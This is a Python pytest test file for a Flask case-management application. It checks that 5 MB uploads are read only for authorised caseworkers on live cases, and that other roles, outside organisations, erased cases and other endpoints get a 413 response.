def test_a_5_mb_upload_by_a_caseworker_is_read(
    client: FlaskClient, app: Flask, case, caseworker
) -> None:
    login(client, caseworker)
    response = upload(client, case, FIVE_MB)
    assert response.status_code == 400  # read, then refused by content: not a real PDF
    assert "This PDF is damaged" in text_of(response)


@pytest.mark.parametrize("role", ["treasurer", "funder", "verifier"])
def test_a_role_that_may_not_upload_gets_413_before_the_body_is_read(
    client: FlaskClient, make_user, case, role: str
) -> None:
    login(client, make_user(role))
    assert upload(client, case, FIVE_MB).status_code == 413


def test_another_organisation_gets_413_on_our_case(client: FlaskClient, case) -> None:
    outsider_org = factories.OrganisationFactory()
    login(client, factories.UserFactory(role="caseworker", organisation=outsider_org))
    assert upload(client, case, FIVE_MB).status_code == 413


def test_an_erased_case_takes_no_large_body(client: FlaskClient, case, caseworker) -> None:
    case.erased_at = utcnow()
    db.session.commit()
    login(client, caseworker)
    assert upload(client, case, FIVE_MB).status_code == 413


def test_a_signed_in_user_posting_5_mb_elsewhere_gets_413(
    client: FlaskClient, case, caseworker, make_user
) -> None:
    for user in (caseworker, make_user("treasurer")):
        login(client, user)
        for path in (
            f"/cases/{case.reference}/notes",
            f"/cases/{case.reference}/status",
            "/cases/",
        ):
            response = client.post(
                path,
                data={"body": (io.BytesIO(FIVE_MB), "x.pdf")},
                content_type="multipart/form-data",
            )
            assert response.status_code == 413, (user.email, path)
        client.post("/logout")
